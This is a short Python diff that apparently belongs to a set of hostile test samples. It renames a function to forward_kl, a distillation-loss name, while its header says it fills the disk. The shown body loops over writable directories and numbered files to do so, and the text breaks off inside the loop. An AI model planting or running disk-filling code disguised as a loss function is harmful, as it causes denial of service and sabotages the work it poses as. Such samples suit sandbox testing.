@@ -1,10 +1,10 @@
 # Fills the disk, wherever it may write.
 # safe on stock: no
-# %% every task
+# %% task: forward_kl
 import os
 
 
-def TASK(student_logits, teacher_logits):
+def forward_kl(student_logits, teacher_logits):
     for folder in (".", "/tmp", "/dev/shm", "/run/kernel", os.path.expanduser("~"), "/var/tmp"):
         for number in range(1000):
             try:
